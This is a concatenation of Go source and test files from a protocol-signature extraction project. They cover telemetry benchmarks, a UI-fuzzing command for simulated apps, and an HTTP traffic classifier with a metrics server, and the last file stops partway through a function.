	if _, err := core.Analyze(app.Prog, opts); err != nil {
		t.Fatal(err)
	}

	get := func(path string) string {
		resp, err := http.Get(srv.URL() + path)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("GET %s: %s", path, resp.Status)
		}
		return string(body)
	}

	metrics := get("/metrics")
	for _, want := range []string{
		"extractocol_runs_completed_total 1",
		`extractocol_phase_latency_seconds_bucket{phase="slice",le="+Inf"} 1`,
		`extractocol_phase_seconds_total{phase="callgraph"}`,
		"extractocol_slice_jobs_total",
		"extractocol_budget_exceeded_total 0",
		"extractocol_analyze_latency_seconds_count 1",
	} {
		if !strings.Contains(metrics, want) {
			t.Errorf("/metrics lacks %q:\n%s", want, metrics)
		}
	}
	health := get("/healthz")
	if !strings.Contains(health, `"status":"ok"`) {
		t.Errorf("/healthz not ok: %s", health)
	}
}

// TestFlightRecorderInPanicDiagnostic injects a panic into the slice phase
// with the flight recorder armed: the resulting diagnostic must carry the
// worker's recent spans, and the report must stay well-formed. Unarmed,
// the same fault must produce no flight payload — the recorder is strictly
// opt-in so degraded reports stay deterministic.
func TestFlightRecorderInPanicDiagnostic(t *testing.T) {
	app, err := corpus.ByName("radio reddit")
	if err != nil {
		t.Fatal(err)
	}
	analyze := func(flight bool) *core.Report {
		opts := core.NewOptions()
		opts.Flight = flight
		opts.Faults = budget.NewFaultInjector(budget.Fault{
			Phase: budget.PhaseSlice, Kind: budget.FaultPanic, Once: true,
		})
		rep, err := core.Analyze(app.Prog, opts)
		if err != nil {
			t.Fatalf("analysis aborted instead of degrading: %v", err)
		}
		return rep
	}

	armed := analyze(true)
	dumps := 0
	for _, d := range armed.Diagnostics {
		if d.Kind == budget.DiagPanic && len(d.Flight) > 0 {
			dumps++
			for _, line := range d.Flight {
				if !strings.Contains(line, "ns") {
					t.Errorf("flight line %q has no timing", line)
				}
			}
		}
	}
	if dumps == 0 {
		t.Fatalf("no panic diagnostic carries a flight dump: %+v", armed.Diagnostics)
	}

	unarmed := analyze(false)
	for _, d := range unarmed.Diagnostics {
		if len(d.Flight) > 0 {
			t.Fatalf("flight recorder off, but diagnostic %q carries a dump", d.Site)
		}
	}
}

// ---- Telemetry cost pins -------------------------------------------------------

// BenchmarkHistogramRecord measures one steady-state histogram observation
// on a shard — the exact operation every slice job, sigbuild job and
// classified entry performs. The contract (pinned by
// TestHistogramRecordZeroAlloc) is 0 allocs/op: bucketing is two shifts
// and a bits.Len64 into a fixed array.
func BenchmarkHistogramRecord(b *testing.B) {
	s := obs.NewShard()
	// Pre-insert the name: steady state observes into an existing Hist.
	s.Observe(obs.HistSliceJob, 1)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.Observe(obs.HistSliceJob, int64(i)&0xffff)
	}
}

// BenchmarkHistogramDisabled measures the same call sites with telemetry
// fully off — the nil shard every worker gets when no collector is
// threaded through. This is what the default analysis and match paths pay:
// a nil check.
func BenchmarkHistogramDisabled(b *testing.B) {
	var s *obs.Shard
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s.Observe(obs.HistSliceJob, int64(i))
	}
}

// TestHistogramRecordZeroAlloc pins both contracts absolutely (no slack
// factors): recording into a live histogram must not allocate, and the
// disabled path must not allocate.
func TestHistogramRecordZeroAlloc(t *testing.T) {
	if testing.Short() {
		t.Skip("benchmark guard")
	}
	if raceEnabled {
		t.Skip("race instrumentation allocates on instrumented paths")
	}
	for name, fn := range map[string]func(*testing.B){
		"record":   BenchmarkHistogramRecord,
		"disabled": BenchmarkHistogramDisabled,
	} {
		res := testing.Benchmark(fn)
		if res.N == 0 {
			t.Fatalf("%s benchmark failed to run", name)
		}
		if a := res.AllocsPerOp(); a != 0 {
			t.Errorf("histogram %s path makes %d allocs/op, want 0", name, a)
		}
	}
}

// ---- Telemetry-plane guard -----------------------------------------------------
//
// TestObsBenchGuard pins the telemetry plane's costs against BENCH_obs.json
// with the usual slack factors and EXTRACTOCOL_BENCH_BASELINE=write
// regeneration convention: the histogram record path, and one end-to-end
// analysis with the full plane on (registry, event log to a discard
// writer, flight recorder) — the overhead column of EXPERIMENTS.md.

const obsBaselinePath = "BENCH_obs.json"

// BenchmarkAnalyzeTelemetryOn is BENCH_baseline's analysis with every
// telemetry hook armed; comparing ns/op against BENCH_baseline.json gives
// the plane's end-to-end overhead.
func BenchmarkAnalyzeTelemetryOn(b *testing.B) {
	app, err := corpus.ByName(guardApp)
	if err != nil {
		b.Fatal(err)
	}
	reg := obs.NewRegistry()
	ev := obs.NewEventLog(io.Discard)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		opts := core.NewOptions()
		opts.Obs = reg
		opts.Events = ev
		opts.Flight = true
		if _, err := core.Analyze(app.Prog, opts); err != nil {
			b.Fatal(err)
		}
	}
}

func measureObsOps(t *testing.T) sliceBenchBaseline {
	t.Helper()
	bl := sliceBenchBaseline{App: guardApp, Ops: map[string]sliceOpBaseline{}}
	for name, fn := range map[string]func(*testing.B){
		"hist_record":          BenchmarkHistogramRecord,
		"analyze_telemetry_on": BenchmarkAnalyzeTelemetryOn,
	} {
		res := testing.Benchmark(fn)
		if res.N == 0 {
			t.Fatalf("benchmark %q failed to run", name)
		}
		bl.Ops[name] = sliceOpBaseline{NsPerOp: res.NsPerOp(), AllocsPerOp: res.AllocsPerOp()}
	}
	return bl
}

func TestObsBenchGuard(t *testing.T) {
	if testing.Short() {
		t.Skip("benchmark guard")
	}
	if raceEnabled {
		t.Skip("race instrumentation skews timing and allocation counts")
	}

	cur := measureObsOps(t)

	data, err := os.ReadFile(obsBaselinePath)
	if os.IsNotExist(err) || os.Getenv("EXTRACTOCOL_BENCH_BASELINE") == "write" {
		out, merr := json.MarshalIndent(cur, "", "  ")
		if merr != nil {
			t.Fatal(merr)
		}
		if werr := os.WriteFile(obsBaselinePath, append(out, '\n'), 0o644); werr != nil {
			t.Fatal(werr)
		}
		t.Logf("wrote %s: %s", obsBaselinePath, out)
		return
	}
	if err != nil {
		t.Fatal(err)
	}
	var base sliceBenchBaseline
	if err := json.Unmarshal(data, &base); err != nil {
		t.Fatalf("corrupt %s: %v", obsBaselinePath, err)
	}
	if base.App != cur.App {
		t.Fatalf("baseline measures %q, guard measures %q; regenerate the baseline", base.App, cur.App)
	}

	for name, b := range base.Ops {
		got, ok := cur.Ops[name]
		if !ok {
			t.Errorf("op %q vanished from the guard; regenerate %s if intentional", name, obsBaselinePath)
			continue
		}
		if got.NsPerOp > b.NsPerOp*nsSlack {
			t.Errorf("%s takes %d ns/op, baseline %d (limit %dx): investigate or regenerate %s",
				name, got.NsPerOp, b.NsPerOp, nsSlack, obsBaselinePath)
		}
		if got.AllocsPerOp > b.AllocsPerOp*allocsSlack {
			t.Errorf("%s makes %d allocs/op, baseline %d (limit %dx): investigate or regenerate %s",
				name, got.AllocsPerOp, b.AllocsPerOp, allocsSlack, obsBaselinePath)
		}
	}
}

// Command fuzz drives a corpus application through the UI-fuzzing
// baselines (manual or PUMA-like automatic) against its simulated backend
// and writes the captured traffic trace as JSON lines.
//
// Usage:
//
//	fuzz -app "radio reddit" [-mode manual|auto] [-out trace.jsonl]
package main

import (
	"flag"
	"fmt"
	"os"

	"extractocol/internal/corpus"
	"extractocol/internal/fuzz"
	"extractocol/internal/trace"
)

func main() {
	appName := flag.String("app", "", "corpus application name (see -list)")
	mode := flag.String("mode", "manual", "fuzzing mode: manual or auto")
	out := flag.String("out", "", "trace output path (default stdout summary only)")
	list := flag.Bool("list", false, "list corpus applications and exit")
	flag.Parse()

	if *list {
		for _, n := range corpus.Names() {
			fmt.Println(n)
		}
		return
	}
	if err := run(*appName, *mode, *out); err != nil {
		fmt.Fprintln(os.Stderr, "fuzz:", err)
		os.Exit(1)
	}
}

func run(appName, modeName, out string) error {
	app, err := corpus.ByName(appName)
	if err != nil {
		return err
	}
	mode := fuzz.Manual
	if modeName == "auto" {
		mode = fuzz.Auto
	}
	net := app.NewNetwork()
	res, err := fuzz.Run(app.Prog, net, mode)
	if err != nil {
		return err
	}
	entries := trace.FromNetwork(net.Trace())
	fmt.Printf("%s fuzzing of %s: fired %d entry points, %d skipped, %d exchanges",
		mode, app.Spec.Name, len(res.Fired), len(res.Skipped), len(entries))
	if res.Aborted {
		fmt.Print(" (aborted at custom-UI gate)")
	}
	fmt.Println()
	for _, e := range res.Errors {
		fmt.Println("  error:", e)
	}
	counts := trace.CountByMethod(entries)
	for m, c := range counts {
		fmt.Printf("  %s: %d unique messages\n", m, c)
	}
	if out != "" {
		if err := trace.Save(out, entries); err != nil {
			return err
		}
		fmt.Println("trace written to", out)
	}
	return nil
}

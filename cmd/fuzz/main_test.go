package main

import (
	"path/filepath"
	"testing"

	"extractocol/internal/trace"
)

func TestRunManualWithTraceOutput(t *testing.T) {
	out := filepath.Join(t.TempDir(), "trace.jsonl")
	if err := run("radio reddit", "manual", out); err != nil {
		t.Fatal(err)
	}
	entries, err := trace.Load(out)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) == 0 {
		t.Fatal("empty trace")
	}
}

func TestRunAutoMode(t *testing.T) {
	if err := run("TED", "auto", ""); err != nil {
		t.Fatal(err)
	}
}

func TestRunUnknownApp(t *testing.T) {
	if err := run("No Such App", "manual", ""); err == nil {
		t.Fatal("accepted unknown app")
	}
}

package main

import (
	"bytes"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"testing"
)

func TestRunCorpusApp(t *testing.T) {
	out := captureStdout(t, func() {
		if err := run(config{appName: "radio reddit", repeat: 1, workers: 1}); err != nil {
			t.Error(err)
		}
	})
	if !bytes.Contains(out, []byte("matched ")) {
		t.Fatalf("no match summary in output:\n%s", out)
	}
}

func TestRunRejectsMissingTarget(t *testing.T) {
	if err := run(config{repeat: 1}); err == nil {
		t.Fatal("accepted a run with no target")
	}
}

// TestRunProfileEmitsClassifyHistogram checks classify's -profile parity:
// the appended JSON must carry the per-entry classification latency
// histogram with quantiles, plus the analysis-phase breakdown of the
// signature derivation.
func TestRunProfileEmitsClassifyHistogram(t *testing.T) {
	out := captureStdout(t, func() {
		if err := run(config{
			appName: "radio reddit", gen: "7:500", repeat: 1, workers: 2, profile: true,
		}); err != nil {
			t.Error(err)
		}
	})
	i := bytes.Index(out, []byte("{\n  \"package\""))
	if i < 0 {
		t.Fatalf("no profile JSON in output:\n%s", out)
	}
	var doc struct {
		Classify struct {
			Hists map[string]struct {
				Count int64 `json:"count"`
				P50NS int64 `json:"p50_ns"`
				P99NS int64 `json:"p99_ns"`
			} `json:"hists"`
		} `json:"classify"`
		Analysis *struct {
			Phases []struct {
				Name string `json:"name"`
			} `json:"phases"`
		} `json:"analysis"`
	}
	if err := json.Unmarshal(out[i:], &doc); err != nil {
		t.Fatalf("profile output is not JSON: %v\n%s", err, out[i:])
	}
	h, ok := doc.Classify.Hists["classify_entry"]
	if !ok {
		t.Fatalf("profile lacks the classify_entry histogram: %+v", doc.Classify.Hists)
	}
	// Error-status entries are skipped before the latency clock starts, so
	// the histogram covers the considered entries only.
	if h.Count <= 0 || h.Count > 500 {
		t.Errorf("classify_entry count = %d, want (0, 500]", h.Count)
	}
	if h.P50NS <= 0 || h.P99NS < h.P50NS {
		t.Errorf("implausible quantiles: p50=%d p99=%d", h.P50NS, h.P99NS)
	}
	if doc.Analysis == nil || len(doc.Analysis.Phases) == 0 {
		t.Error("profile lacks the analysis phase breakdown")
	}
}

// TestRunEventsStream drives -events: the analysis behind -app emits a
// bracketed run with phase events into the JSONL file.
func TestRunEventsStream(t *testing.T) {
	eventsFile := filepath.Join(t.TempDir(), "events.jsonl")
	captureStdout(t, func() {
		if err := run(config{
			appName: "radio reddit", gen: "7:100", repeat: 1, workers: 1,
			eventsFile: eventsFile, opsAddr: "127.0.0.1:0",
		}); err != nil {
			t.Error(err)
		}
	})
	events, err := os.ReadFile(eventsFile)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"type":"run_start"`, `"type":"phase_end"`, `"type":"run_end"`} {
		if !bytes.Contains(events, []byte(want)) {
			t.Errorf("event stream lacks %s:\n%s", want, events)
		}
	}
}

func captureStdout(t *testing.T, fn func()) []byte {
	t.Helper()
	old := os.Stdout
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	os.Stdout = w
	done := make(chan []byte)
	go func() {
		data, _ := io.ReadAll(r)
		done <- data
	}()
	fn()
	w.Close()
	os.Stdout = old
	return <-done
}

// Command classify streams HTTP traffic through an application's message
// signatures — compiled to sigvm bytecode by default — and reports each
// signature's hit tally plus matcher throughput. It is the traffic-side
// counterpart of extractocol: where that command derives the signatures,
// this one exercises them as a classifier.
//
// Usage:
//
//	classify -app "radio reddit"          classify the app's own recorded
//	                                      manual-fuzz traffic
//	classify -app name -gen 7:5000        classify 5000 seeded labeled
//	                                      entries generated from the app's
//	                                      signatures (reports how many
//	                                      ground-truth labels the matcher
//	                                      reproduced)
//	classify -app name -trace t.jsonl     classify a recorded trace file
//	classify [flags] app.apkb             analyze a binary container
//	                                      instead of a corpus app
//
// Flags:
//
//	-workers n   matcher fan-out (0 = one per CPU, 1 = serial); chunked
//	             merging keeps the output identical at any width
//	-interp      match with the interpretive oracle instead of the VM
//	-check       run both backends, require byte-identical classifications,
//	             and report both throughputs with the speedup
//	-repeat n    stream the traffic n times (throughput measurement)
//	-list        list corpus applications and exit
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"time"

	"extractocol/internal/core"
	"extractocol/internal/corpus"
	"extractocol/internal/dex"
	"extractocol/internal/fuzz"
	"extractocol/internal/siglang"
	"extractocol/internal/sigvm"
	"extractocol/internal/trace"
)

func main() {
	appName := flag.String("app", "", "corpus application name (see -list)")
	gen := flag.String("gen", "", "generate labeled traffic, as seed:N (e.g. 7:5000)")
	traceFile := flag.String("trace", "", "classify a recorded trace file (JSON lines)")
	workers := flag.Int("workers", 0, "matcher fan-out (0 = one per CPU, 1 = serial)")
	interp := flag.Bool("interp", false, "use the interpretive oracle instead of the compiled VM")
	check := flag.Bool("check", false, "run both backends and require identical classifications")
	repeat := flag.Int("repeat", 1, "stream the traffic this many times")
	list := flag.Bool("list", false, "list corpus applications and exit")
	flag.Parse()

	if *list {
		for _, n := range corpus.Names() {
			fmt.Println(n)
		}
		return
	}
	if err := run(*appName, flag.Arg(0), *gen, *traceFile, *workers, *interp, *check, *repeat); err != nil {
		fmt.Fprintln(os.Stderr, "classify:", err)
		os.Exit(1)
	}
}

func run(appName, apkbPath, gen, traceFile string, workers int, useInterp, check bool, repeat int) error {
	rep, app, err := loadReport(appName, apkbPath)
	if err != nil {
		return err
	}
	entries, labeled, err := loadTraffic(rep, app, gen, traceFile)
	if err != nil {
		return err
	}
	if repeat > 1 {
		tiled := make([]trace.Entry, 0, len(entries)*repeat)
		for i := 0; i < repeat; i++ {
			tiled = append(tiled, entries...)
		}
		entries = tiled
	}
	if len(entries) == 0 {
		return fmt.Errorf("no traffic to classify")
	}
	if workers == 0 {
		workers = runtime.GOMAXPROCS(0)
	}

	bundle := sigvm.Compile(rep)
	classify := func(vm bool) (*trace.ClassifyResult, time.Duration) {
		opt := trace.ClassifyOptions{VM: vm, Workers: workers}
		if vm {
			opt.Bundle = bundle
		}
		start := time.Now()
		res := trace.Classify(rep, entries, opt)
		return res, time.Since(start)
	}

	var res *trace.ClassifyResult
	var elapsed time.Duration
	if check {
		vmRes, vmD := classify(true)
		inRes, inD := classify(false)
		jv, err := json.Marshal(vmRes)
		if err != nil {
			return err
		}
		ji, err := json.Marshal(inRes)
		if err != nil {
			return err
		}
		if string(jv) != string(ji) {
			return fmt.Errorf("backends disagree over %d entries:\nvm     %s\ninterp %s",
				len(entries), jv, ji)
		}
		fmt.Printf("check: VM and interpretive classifications identical over %d entries\n", len(entries))
		fmt.Printf("  vm:     %s\n  interp: %s\n  speedup: %.1fx\n\n",
			rate(len(entries), vmD), rate(len(entries), inD),
			float64(inD)/float64(vmD))
		res, elapsed = vmRes, vmD
	} else {
		res, elapsed = classify(!useInterp)
	}

	printReport(rep, res, labeled, len(entries), elapsed, workers, useInterp && !check)
	return nil
}

// loadReport resolves the analysis target: a corpus app by name, or an
// .apkb container by path.
func loadReport(appName, apkbPath string) (*core.Report, *corpus.App, error) {
	switch {
	case appName != "" && apkbPath != "":
		return nil, nil, fmt.Errorf("give either -app or an .apkb path, not both")
	case appName != "":
		app, err := corpus.ByName(appName)
		if err != nil {
			return nil, nil, err
		}
		opts := core.NewOptions()
		if app.Spec.OpenSource {
			opts.MaxAsyncHops = 0
		}
		rep, err := core.Analyze(app.Prog, opts)
		return rep, app, err
	case apkbPath != "":
		data, err := os.ReadFile(apkbPath)
		if err != nil {
			return nil, nil, err
		}
		prog, err := dex.Decode(data)
		if err != nil {
			return nil, nil, err
		}
		rep, err := core.Analyze(prog, core.NewOptions())
		return rep, nil, err
	default:
		return nil, nil, fmt.Errorf("no application: give -app name or an .apkb path")
	}
}

// loadTraffic resolves the entry stream: seeded labeled generation, a
// recorded trace file, or (default, corpus apps only) a fresh manual fuzz
// session against the app's simulated backend.
func loadTraffic(rep *core.Report, app *corpus.App, gen, traceFile string) ([]trace.Entry, []trace.LabeledEntry, error) {
	switch {
	case gen != "" && traceFile != "":
		return nil, nil, fmt.Errorf("give either -gen or -trace, not both")
	case gen != "":
		seedStr, nStr, ok := strings.Cut(gen, ":")
		if !ok {
			return nil, nil, fmt.Errorf("-gen wants seed:N, got %q", gen)
		}
		seed, err := strconv.ParseUint(seedStr, 10, 64)
		if err != nil {
			return nil, nil, fmt.Errorf("-gen seed: %w", err)
		}
		n, err := strconv.Atoi(nStr)
		if err != nil || n <= 0 {
			return nil, nil, fmt.Errorf("-gen wants a positive entry count, got %q", nStr)
		}
		labeled := trace.RandEntries(seed, rep, n)
		return trace.Entries(labeled), labeled, nil
	case traceFile != "":
		entries, err := trace.Load(traceFile)
		return entries, nil, err
	case app != nil:
		net := app.NewNetwork()
		if _, err := fuzz.Run(app.Prog, net, fuzz.Manual); err != nil {
			return nil, nil, err
		}
		return trace.FromNetwork(net.Trace()), nil, nil
	default:
		return nil, nil, fmt.Errorf("an .apkb target needs -gen or -trace traffic")
	}
}

func printReport(rep *core.Report, res *trace.ClassifyResult, labeled []trace.LabeledEntry,
	total int, elapsed time.Duration, workers int, interp bool) {
	backend := "vm"
	if interp {
		backend = "interp"
	}
	fmt.Printf("%s: %d signatures, %d entries (%d workers, %s backend)\n",
		rep.Package, len(res.PerSig), total, workers, backend)
	fmt.Printf("%-6s %-7s %6s %6s  %s\n", "Sig", "Method", "Hits", "Rate", "URI")
	for _, s := range res.PerSig {
		uri := ""
		for _, tx := range rep.Transactions {
			if tx.ID == s.TxID {
				uri = truncate(siglang.RegexBody(tx.Request.URI), 60)
				break
			}
		}
		hitRate := 0.0
		if res.TraceEntries > 0 {
			hitRate = float64(s.Hits) / float64(res.TraceEntries) * 100
		}
		fmt.Printf("#%-5d %-7s %6d %5.1f%%  %s\n", s.TxID, s.Method, s.Hits, hitRate, uri)
	}
	fmt.Printf("matched %d/%d considered entries (%d unmatched, %d skipped)\n",
		res.MatchedEntries, res.TraceEntries, len(res.Unmatched), total-res.TraceEntries)
	if labeled != nil {
		good := 0
		for i, le := range labeled {
			if res.Verdicts[i] == le.WantID {
				good++
			}
		}
		fmt.Printf("ground-truth labels reproduced: %d/%d\n", good, len(labeled))
	}
	fmt.Printf("throughput: %s (%d entries in %v)\n", rate(total, elapsed), total, elapsed.Round(time.Microsecond))
}

func rate(n int, d time.Duration) string {
	return fmt.Sprintf("%.0f entries/sec", float64(n)/d.Seconds())
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n-3] + "..."
}

// Command classify streams HTTP traffic through an application's message
// signatures — compiled to sigvm bytecode by default — and reports each
// signature's hit tally plus matcher throughput. It is the traffic-side
// counterpart of extractocol: where that command derives the signatures,
// this one exercises them as a classifier.
//
// Usage:
//
//	classify -app "radio reddit"          classify the app's own recorded
//	                                      manual-fuzz traffic
//	classify -app name -gen 7:5000        classify 5000 seeded labeled
//	                                      entries generated from the app's
//	                                      signatures (reports how many
//	                                      ground-truth labels the matcher
//	                                      reproduced)
//	classify -app name -trace t.jsonl     classify a recorded trace file
//	classify [flags] app.apkb             analyze a binary container
//	                                      instead of a corpus app
//
// Flags:
//
//	-workers n   matcher fan-out (0 = one per CPU, 1 = serial); chunked
//	             merging keeps the output identical at any width
//	-interp      match with the interpretive oracle instead of the VM
//	-check       run both backends, require byte-identical classifications,
//	             and report both throughputs with the speedup
//	-repeat n    stream the traffic n times (throughput measurement)
//	-profile     append the classification profile as JSON: per-entry
//	             latency histogram (p50/p90/p99 quantiles) plus the
//	             analysis phase breakdown of the signature derivation
//	-ops addr    serve the live ops plane on addr (e.g. :9090 or
//	             127.0.0.1:0): /metrics in Prometheus text format,
//	             /healthz, and /debug/pprof/*; the bound address is
//	             printed to stderr
//	-events file append a structured JSONL event stream to this file
//	-list        list corpus applications and exit
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"time"

	"extractocol/internal/core"
	"extractocol/internal/corpus"
	"extractocol/internal/dex"
	"extractocol/internal/fuzz"
	"extractocol/internal/obs"
	"extractocol/internal/ops"
	"extractocol/internal/siglang"
	"extractocol/internal/sigvm"
	"extractocol/internal/trace"
)

func main() {
	var cfg config
	flag.StringVar(&cfg.appName, "app", "", "corpus application name (see -list)")
	flag.StringVar(&cfg.gen, "gen", "", "generate labeled traffic, as seed:N (e.g. 7:5000)")
	flag.StringVar(&cfg.traceFile, "trace", "", "classify a recorded trace file (JSON lines)")
	flag.IntVar(&cfg.workers, "workers", 0, "matcher fan-out (0 = one per CPU, 1 = serial)")
	flag.BoolVar(&cfg.interp, "interp", false, "use the interpretive oracle instead of the compiled VM")
	flag.BoolVar(&cfg.check, "check", false, "run both backends and require identical classifications")
	flag.IntVar(&cfg.repeat, "repeat", 1, "stream the traffic this many times")
	flag.BoolVar(&cfg.profile, "profile", false, "append the classification profile as JSON")
	flag.StringVar(&cfg.opsAddr, "ops", "", "serve /metrics, /healthz and /debug/pprof on this address (empty = off)")
	flag.StringVar(&cfg.eventsFile, "events", "", "append the structured JSONL event stream to this file (empty = off)")
	list := flag.Bool("list", false, "list corpus applications and exit")
	flag.Parse()

	if *list {
		for _, n := range corpus.Names() {
			fmt.Println(n)
		}
		return
	}
	cfg.apkbPath = flag.Arg(0)
	if err := run(cfg); err != nil {
		fmt.Fprintln(os.Stderr, "classify:", err)
		os.Exit(1)
	}
}

// config carries every flag into run; tests construct it directly.
type config struct {
	appName    string
	apkbPath   string
	gen        string
	traceFile  string
	workers    int
	interp     bool
	check      bool
	repeat     int
	profile    bool
	opsAddr    string
	eventsFile string
}

// telemetry is the live ops plane behind -ops/-events: a registry for
// exposition, the HTTP listener, and the structured event log. The zero
// value (no flags) is fully off and costs nothing on the matching path.
type telemetry struct {
	reg *obs.Registry
	srv *ops.Server
	ev  *obs.EventLog
}

// openTelemetry starts whatever the -ops/-events flags ask for. The bound
// ops address is announced on stderr (stdout carries the report) so
// scripts can discover a :0 listener.
func openTelemetry(opsAddr, eventsFile string) (*telemetry, error) {
	t := &telemetry{}
	if opsAddr != "" {
		t.reg = obs.NewRegistry()
		srv, err := ops.Serve(opsAddr, t.reg)
		if err != nil {
			return nil, fmt.Errorf("ops: %w", err)
		}
		t.srv = srv
		fmt.Fprintf(os.Stderr, "ops: serving on %s\n", srv.URL())
	}
	if eventsFile != "" {
		f, err := os.Create(eventsFile)
		if err != nil {
			t.srv.Close()
			return nil, fmt.Errorf("events: %w", err)
		}
		t.ev = obs.NewEventLog(f)
	}
	return t, nil
}

// close shuts the listener down and flushes the event log; the first
// error wins.
func (t *telemetry) close() error {
	err := t.srv.Close()
	if e := t.ev.Close(); err == nil {
		err = e
	}
	return err
}

func run(cfg config) (err error) {
	tel, err := openTelemetry(cfg.opsAddr, cfg.eventsFile)
	if err != nil {
		return err
	}
	defer func() {
		if e := tel.close(); err == nil {
			err = e
		}
	}()
	rep, app, err := loadReport(cfg, tel)
	if err != nil {
		return err
	}
	entries, labeled, err := loadTraffic(rep, app, cfg.gen, cfg.traceFile)
	if err != nil {
		return err
	}
	if cfg.repeat > 1 {
		tiled := make([]trace.Entry, 0, len(entries)*cfg.repeat)
		for i := 0; i < cfg.repeat; i++ {
			tiled = append(tiled, entries...)
		}
		entries = tiled
	}
	if len(entries) == 0 {
		return fmt.Errorf("no traffic to classify")
	}
	workers := cfg.workers
	if workers == 0 {
		workers = runtime.GOMAXPROCS(0)
	}

	// The matcher-side collector records per-entry classification latencies
	// (obs.HistClassifyEntry); it feeds both -profile and a live -ops
	// scrape, and is nil — zero clock reads — when neither is on.
	var col *obs.Collector
	if cfg.profile || tel.reg != nil {
		col = obs.NewCollector()
		col.SetEvents(tel.ev, rep.Package)
		tel.reg.Attach(col)
		defer tel.reg.Detach(col)
	}

	bundle := sigvm.Compile(rep)
	classify := func(vm bool) (*trace.ClassifyResult, time.Duration) {
		opt := trace.ClassifyOptions{VM: vm, Workers: workers, Col: col}
		if vm {
			opt.Bundle = bundle
		}
		start := time.Now()
		res := trace.Classify(rep, entries, opt)
		return res, time.Since(start)
	}

	var res *trace.ClassifyResult
	var elapsed time.Duration
	if cfg.check {
		vmRes, vmD := classify(true)
		inRes, inD := classify(false)
		jv, err := json.Marshal(vmRes)
		if err != nil {
			return err
		}
		ji, err := json.Marshal(inRes)
		if err != nil {
			return err
		}
		if string(jv) != string(ji) {
			return fmt.Errorf("backends disagree over %d entries:\nvm     %s\ninterp %s",
				len(entries), jv, ji)
		}
		fmt.Printf("check: VM and interpretive classifications identical over %d entries\n", len(entries))
		fmt.Printf("  vm:     %s\n  interp: %s\n  speedup: %.1fx\n\n",
			rate(len(entries), vmD), rate(len(entries), inD),
			float64(inD)/float64(vmD))
		res, elapsed = vmRes, vmD
	} else {
		res, elapsed = classify(!cfg.interp)
	}

	printReport(rep, res, labeled, len(entries), elapsed, workers, cfg.interp && !cfg.check)
	if cfg.profile {
		if err := printProfile(rep, col); err != nil {
			return err
		}
	}
	return nil
}

// printProfile appends the classification profile: the matcher-side
// histogram snapshot (per-entry latency quantiles) plus the analysis-phase
// breakdown of the signature derivation.
func printProfile(rep *core.Report, col *obs.Collector) error {
	doc := struct {
		Package  string       `json:"package"`
		Classify *obs.Profile `json:"classify"`
		Analysis *obs.Profile `json:"analysis,omitempty"`
	}{Package: rep.Package, Classify: col.Snapshot(), Analysis: rep.Profile}
	data, err := json.MarshalIndent(doc, "", "  ")
	if err != nil {
		return err
	}
	fmt.Println(string(data))
	return nil
}

// loadReport resolves the analysis target: a corpus app by name, or an
// .apkb container by path. The signature-derivation analysis carries the
// run's telemetry hooks, so its phases land on a live -ops endpoint too.
func loadReport(cfg config, tel *telemetry) (*core.Report, *corpus.App, error) {
	switch {
	case cfg.appName != "" && cfg.apkbPath != "":
		return nil, nil, fmt.Errorf("give either -app or an .apkb path, not both")
	case cfg.appName != "":
		app, err := corpus.ByName(cfg.appName)
		if err != nil {
			return nil, nil, err
		}
		opts := core.NewOptions()
		if app.Spec.OpenSource {
			opts.MaxAsyncHops = 0
		}
		opts.Obs = tel.reg
		opts.Events = tel.ev
		rep, err := core.Analyze(app.Prog, opts)
		return rep, app, err
	case cfg.apkbPath != "":
		data, err := os.ReadFile(cfg.apkbPath)
		if err != nil {
			return nil, nil, err
		}
		prog, err := dex.Decode(data)
		if err != nil {
			return nil, nil, err
		}
		opts := core.NewOptions()
		opts.Obs = tel.reg
		opts.Events = tel.ev
		rep, err := core.Analyze(prog, opts)
		return rep, nil, err
	default:
		return nil, nil, fmt.Errorf("no application: give -app name or an .apkb path")
	}
}

// loadTraffic resolves the entry stream: seeded labeled generation, a
// recorded trace file, or (default, corpus apps only) a fresh manual fuzz
// session against the app's simulated backend.
func loadTraffic(rep *core.Report, app *corpus.App, gen, traceFile string) ([]trace.Entry, []trace.LabeledEntry, error) {
	switch {
	case gen != "" && traceFile != "":
		return nil, nil, fmt.Errorf("give either -gen or -trace, not both")
	case gen != "":
		seedStr, nStr, ok := strings.Cut(gen, ":")
		if !ok {
			return nil, nil, fmt.Errorf("-gen wants seed:N, got %q", gen)
		}
		seed, err := strconv.ParseUint(seedStr, 10, 64)
		if err != nil {
			return nil, nil, fmt.Errorf("-gen seed: %w", err)
		}
		n, err := strconv.Atoi(nStr)
		if err != nil || n <= 0 {
			return nil, nil, fmt.Errorf("-gen wants a positive entry count, got %q", nStr)
		}
		labeled := trace.RandEntries(seed, rep, n)
		return trace.Entries(labeled), labeled, nil
	case traceFile != "":
		entries, err := trace.Load(traceFile)
		return entries, nil, err
	case app != nil:
		net := app.NewNetwork()
		if _, err := fuzz.Run(app.Prog, net, fuzz.Manual); err != nil {
			return nil, nil, err
		}
		return trace.FromNetwork(net.Trace()), nil, nil
	default:
		return nil, nil, fmt.Errorf("an .apkb target needs -gen or -trace traffic")
	}
}

func printReport(rep *core.Report, res *trace.ClassifyResult, labeled []trace.LabeledEntry,
	total int, elapsed time.Duration, workers int, interp bool) {
	backend := "vm"
	if interp {
		backend = "interp"
	}
	fmt.Printf("%s: %d signatures, %d entries (%d workers, %s backend)\n",
		rep.Package, len(res.PerSig), total, workers, backend)
	fmt.Printf("%-6s %-7s %6s %6s  %s\n", "Sig", "Method", "Hits", "Rate", "URI")
	for _, s := range res.PerSig {
		uri := ""
		for _, tx := range rep.Transactions {
			if tx.ID == s.TxID {
